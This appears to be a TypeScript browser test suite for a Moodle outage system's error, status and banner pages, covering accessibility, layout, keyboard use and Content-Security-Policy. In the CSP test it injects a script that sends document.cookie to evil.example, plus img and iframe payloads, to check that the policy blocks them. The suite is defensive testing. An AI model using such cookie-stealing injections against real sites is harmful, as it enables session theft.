// cspell:ignore Prüfungsverwaltungsinformationssystem Anmeldebestätigungsdienst ätigungsdienst antwortet nicht Leistungsnachweisverwaltungsschnittstelle Rindfleischetikettierungsüberwachung
import * as assert from "node:assert/strict";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import axe from "axe-core";
import type { Browser, Page } from "playwright-core";
import { servicesPage } from "../../components/outage/pages/services";
import { openBrowser } from "../browser";
import { branding } from "./example";
import { embeddedPolicy, pagesPolicy, policyOf } from "../../components/outage/behaviours";
import { firstFiles, statusFiles, statusPath } from "../../components/outage/pages/files";
import { functionCode } from "../../components/outage/pages/functionCode";
import { moodleClients } from "../../components/outage/pages/moodleClients";
import { run } from "../cloudfront-functions/harness";
import { v8 } from "../cloudfront-functions/v8";
import { changed } from "../../components/outage/pages/change";
import { firstStatus, type Status } from "../../components/outage/pages/status";
import { switchText } from "../../components/outage/pages/switchValue";

/** Set to a folder to keep the screenshots. */
const pictures = process.env["SCREENSHOTS"];

const logo =
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 40" role="img" aria-label="Crest"><path fill="currentColor" d="M4 4h32v20L20 38 4 24z"/></svg>';
const brands = { plain: branding, "with a logo and long names": { ...branding, logo, organisation: longName() } };

function longName(): string {
  return "The Royal and Imperial Polytechnic University of Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch";
}

function busyStatus(): Status {
  const at = (hour: string) => `2026-11-23T${hour}:00Z`;
  const long = "https://example.org/" + "a-long-address/".repeat(12);
  let status = firstStatus({ ...branding, logo }, at("01:00"));
  status = changed(status, { state: "outage", message: `The database failed over. See ${long}` }, at("02:00"));
  status = changed(status, { state: "outage", message: "Logins work again; files do not." }, at("02:30"));
  status = changed(status, { state: "off" }, at("03:00"));
  status = changed(
    status,
    { state: "announce", title: "Upgrade to Moodle 5.1", start: "2026-12-01T06:00:00Z", until: "2026-12-01T08:00:00Z" },
    at("04:00"),
  );
  status = changed(status, { state: "announce", title: "Wrong day", start: "2026-12-02T06:00:00Z" }, at("04:10"));
  status = changed(status, { state: "withdraw", message: "Not on this day." }, at("04:20"));
  status = changed(status, { state: "planned", message: "Moving hose", until: at("06:00") }, at("05:00"));
  return changed(status, { state: "correct", message: "Moving house" }, at("05:05"));
}

async function documents(): Promise<Record<string, string>> {
  const found: Record<string, string> = {};
  for (const [name, brand] of Object.entries(brands)) {
    found[`error page, ${name}`] = firstFiles(brand)[0]?.content ?? "";
    const state = switchText({
      state: "planned",
      message: "We are moving Moodle to a new home.\nNothing you saved is lost.",
      back: "Tuesday 24 November 2026 at 06:00 GMT",
    });
    const answer = await run(
      v8,
      functionCode(brand, [], moodleClients),
      { state },
      { headers: { accept: "text/html" } },
    );
    found[`switch page, ${name}`] = answer.response?.body?.data ?? "";
  }
  const content = (status: Status, now: string, file = "status.html") =>
    statusFiles(status, now).find(({ name }) => name === file)?.content ?? "";
  found["status page, new"] = content(firstStatus(branding, "2026-11-23T01:00:00Z"), "2026-11-23T01:00:00Z");
  found["status page, busy"] = content(busyStatus(), "2026-11-23T05:10:00Z");
  const start = "2026-11-23T01:00:00Z";
  found["banner, all is well"] = content(firstStatus(branding, start), start, "banner.html");
  found["banner, busy"] = content(busyStatus(), "2026-11-23T05:10:00Z", "banner.html");
  const long = { ...branding, service: "Prüfungsverwaltungsinformationssystem-Anmeldebestätigungsdienst" };
  const words = "Die Leistungsnachweisverwaltungsschnittstelle antwortet nicht; Rindfleischetikettierungsüberwachung.";
  const trouble = changed(firstStatus(long, start), { state: "trouble", message: words }, start);
  found["banner, long words"] = content(trouble, start, "banner.html");
  const moodle = { name: "Moodle", banner: "https://moodle.example.org/outage/banner.html" };
  found["services page"] = servicesPage({ ...long, organisation: longName() }, [
    moodle,
    { name: long.service, banner: "https://exams.example.org/outage/banner.html?a=1&b=2" },
  ]);
  return found;
}

describe("the pages in a browser", () => {
  let browser: Browser;
  let pages: Record<string, string>;

  before(async function () {
    browser = await openBrowser(this);
    pages = await documents();
  });
  after(() => browser?.close());

  /** One window for each way of looking; opening one takes longer than all that is done in it. */
  const windows = new Map<string, { page: Page; asked: string[] }>();
  let shown = "";

  /** Opens the page as its own site would serve it, and counts everything else that it asks for. */
  async function open(html: string, width: number, colorScheme: "light" | "dark" = "light", javaScriptEnabled = true) {
    const key = `${colorScheme} ${javaScriptEnabled}`;
    let seen = windows.get(key);
    if (seen === undefined) {
      const page = await (await browser.newContext({ colorScheme, javaScriptEnabled })).newPage();
      const asked: string[] = [];
      await page.route("**/*", (route) => {
        const { pathname } = new URL(route.request().url());
        if (pathname === "/outage/page") {
          return route.fulfill({ status: 503, contentType: "text/html; charset=utf-8", body: shown });
        }
        asked.push(pathname);
        return route.fulfill({ status: 404, body: "" });
      });
      seen = { page, asked };
      windows.set(key, seen);
    }
    shown = html;
    seen.asked.length = 0;
    await seen.page.setViewportSize({ width, height: 800 });
    await seen.page.goto("https://moodle.example.org/outage/page");
    return seen;
  }

  async function each(check: (name: string, html: string) => Promise<void>): Promise<void> {
    for (const [name, html] of Object.entries(pages)) {
      await check(name, html);
    }
  }

  for (const colorScheme of ["light", "dark"] as const) {
    it(`have nothing for axe to find, ${colorScheme}`, () =>
      each(async (name, html) => {
        const { page } = await open(html, 800, colorScheme);
        await page.evaluate(axe.source);
        const { violations, incomplete } = await page.evaluate(() =>
          (globalThis as unknown as { axe: typeof axe }).axe.run({
            runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"],
            // What is in them is the banner, which is judged as a page of its own.
            iframes: false,
            rules: { "frame-tested": { enabled: false } },
          }),
        );
        assert.deepEqual(
          violations.map(({ id, help, nodes }) => `${id}: ${help} ${nodes[0]?.html}`),
          [],
          name,
        );
        assert.deepEqual(
          incomplete.map(({ id }) => id),
          [],
          `${name}: to be looked at by hand`,
        );
      }));
  }

  it("fit any screen from 320 to 1920 pixels without scrolling sideways", () =>
    each(async (name, html) => {
      const { page } = await open(html, 320);
      for (const width of [320, 360, 768, 1280, 1920]) {
        await page.setViewportSize({ width, height: 800 });
        const wide = await page.evaluate("document.documentElement.scrollWidth");
        assert.ok(Number(wide) <= width, `${name} is ${wide} pixels wide at ${width}`);
        if (pictures !== undefined && [320, 360, 1280].includes(width)) {
          mkdirSync(pictures, { recursive: true });
          const file = join(pictures, `${name.replace(/[ ,]+/g, "-")}-${width}.png`);
          writeFileSync(file, await page.screenshot({ fullPage: true }));
        }
      }
    }));

  it("ask for nothing else, and need no script to be read", () =>
    each(async (name, html) => {
      const { page, asked } = await open(html, 800, "light", false);
      await page.waitForLoadState("networkidle");
      // The browser's own idea, for any page; and the banners of the services, which are all that their page is for.
      const expected = name === "services page" ? ["/favicon.ico", "/outage/banner.html"] : ["/favicon.ico"];
      const others = asked.filter((path) => !expected.includes(path));
      assert.deepEqual(others, [], name);
      assert.ok((await page.locator("h1").innerText()).length > 5, name);
    }));

  it("run nothing that gets into the bucket, and look the same under their Content-Security-Policy", async () => {
    const window = await (await browser.newContext()).newPage();
    const asked: string[] = [];
    let body = "";
    let headers: Record<string, string> = {};
    await window.route("**/*", (route) => {
      asked.push(route.request().url());
      return route.fulfill({ status: 200, contentType: "text/html; charset=utf-8", headers, body });
    });
    const show = async (html: string, policy: boolean) => {
      asked.length = 0;
      body = html;
      headers = policy ? { "content-security-policy": pagesPolicy } : {};
      await window.goto("https://moodle.example.org/outage/page");
      await window.waitForLoadState("networkidle");
      return {
        others: asked.slice(1).filter((url) => !url.endsWith("/favicon.ico")),
        picture: await window.screenshot(),
      };
    };
    for (const [name, html] of Object.entries(pages).filter(([key]) => /^(error|status) page|^banner/.test(key))) {
      const [without, within] = [await show(html, false), await show(html, true)];
      assert.ok(without.picture.equals(within.picture), name);
      const nasty = html.replace(
        "</body>",
        '<script>document.title = "taken"; fetch("https://evil.example/?" + document.cookie)</script>' +
          '<img src="https://evil.example/x.png" onerror="document.title = 1"><iframe src="https://evil.example/"></iframe></body>',
      );
      assert.notEqual(nasty, html);
      assert.ok((await show(nasty, false)).others.length > 0, "the attack works without the policy");
      const { others } = await show(nasty, true);
      assert.deepEqual(others, [], name);
      assert.notEqual(await window.title(), "taken");
    }
  });

  it("show the banner in other pages, where it can follow its link and do nothing else", async () => {
    const window = await (await browser.newContext()).newPage();
    let banner = pages["banner, busy"] ?? "";
    let around: { readonly body: string; readonly policy: string } | undefined;
    await window.route("**/*", (route) => {
      const { host, pathname } = new URL(route.request().url());
      const reply = (body: string, headers: Record<string, string> = {}) =>
        route.fulfill({ status: 200, contentType: "text/html; charset=utf-8", headers, body });
      if (pathname === "/outage/banner.html") {
        return reply(banner, { "content-security-policy": embeddedPolicy(["https://www.example.org"]) });
      }
      if (around !== undefined) {
        return reply(around.body, { "content-security-policy": around.policy });
      }
      return host === "moodle.example.org" && pathname === "/outage/status.html"
        ? reply("<title>status page</title>")
        : reply(`<title>around</title>${iframe.replace("/outage/", "https://moodle.example.org/outage/")}`);
    });
    const [iframe = ""] =
      /<iframe[^]*?<\/iframe>/.exec(readFileSync(join(__dirname, "../../docs/outage.md"), "utf8")) ?? [];
    assert.match(iframe, /sandbox="allow-top-navigation-by-user-activation"/);
    for (const [from, visible] of [
      ["https://www.example.org/news", true],
      ["https://moodle.example.org/my/", true],
      ["https://elsewhere.example.net/", false],
    ] as const) {
      await window.goto(from);
      // The browser's own page says that it was refused.
      const heading = window.frameLocator("iframe").locator("h1", { hasText: "closed for maintenance" });
      assert.equal(await heading.count(), visible ? 1 : 0, from);
    }
    for (const [policy, visible] of [
      [policyOf(["https://moodle.example.org"]), true],
      [pagesPolicy, false],
    ] as const) {
      around = { body: pages["services page"] ?? "", policy };
      await window.goto("https://www.example.org/services");
      const heading = window.frameLocator("iframe >> nth=0").locator("h1", { hasText: "closed for maintenance" });
      assert.equal(await heading.count(), visible ? 1 : 0, policy);
    }
    around = undefined;
    banner = banner.replace(
      "</main>",
      "<script>top.document.title = 1; document.body.textContent = 'taken'</script></main>",
    );
    await window.goto("https://moodle.example.org/my/");
    assert.match(await window.frameLocator("iframe").locator("h1").innerText(), /closed for maintenance/);
    assert.equal(await window.title(), "around");
    await window.frameLocator("iframe").locator("a").click();
    await window.waitForURL("https://moodle.example.org/outage/status.html");
    assert.equal(await window.title(), "status page");
    await window.context().close();
  });

  it("can be used with the keyboard alone, and show where it is", () =>
    each(async (name, html) => {
      const { page } = await open(html, 800);
      const wanted = await focusable(page);
      const reached: string[] = [];
      for (let tabs = 0; tabs < 60 && reached.at(-1) !== wanted.at(-1); tabs++) {
        await page.keyboard.press("Tab");
        const at = await page.evaluate<{ label: string; outline: string; height: number }>(`(() => {
          const one = document.activeElement;
          return { label: one.id || one.getAttribute("href") || one.textContent, outline: getComputedStyle(one).outlineStyle,
            height: one.getBoundingClientRect().height };
        })()`);
        if (reached.at(-1) !== at.label) {
          reached.push(at.label);
        }
        assert.notEqual(at.outline, "none", `${name}: ${at.label} shows no focus`);
        assert.ok(at.height >= 24 || at.label === "", `${name}: ${at.label} is ${at.height} pixels high`);
      }
      assert.deepEqual(reached, wanted, name);
    }));

  it("can be read at twice the text size", () =>
    each(async (name, html) => {
      const { page } = await open(html, 640);
      await page.addStyleTag({ content: "html{font-size:200%}" });
      assert.ok(Number(await page.evaluate("document.documentElement.scrollWidth")) <= 640, name);
    }));

  async function focusable(page: Page): Promise<string[]> {
    return page.evaluate<string[]>(`[...document.querySelectorAll("a[href],button,input,textarea,select,summary")]
      .filter((one) => one.checkVisibility() && !one.disabled)
      .map((one) => one.id || one.getAttribute("href") || one.textContent)`);
  }

  it("would be found out otherwise", async () => {
    const { page } = await open('<title>x</title><div style="width:2000px"><img src="a.png"></div>', 320);
    await page.evaluate(axe.source);
    const { violations } = await page.evaluate(() => (globalThis as unknown as { axe: typeof axe }).axe.run());
    assert.ok(violations.some(({ id }) => id === "image-alt") && violations.some(({ id }) => id === "html-has-lang"));
    assert.ok(Number(await page.evaluate("document.documentElement.scrollWidth")) > 320);
  });

  it("link to the status page by a path that the switch never touches", () => {
    for (const [name, html] of Object.entries(pages).filter(([key]) => /error|switch/.test(key))) {
      assert.ok(html.includes(`href="${statusPath}"`), name);
    }
  });
});
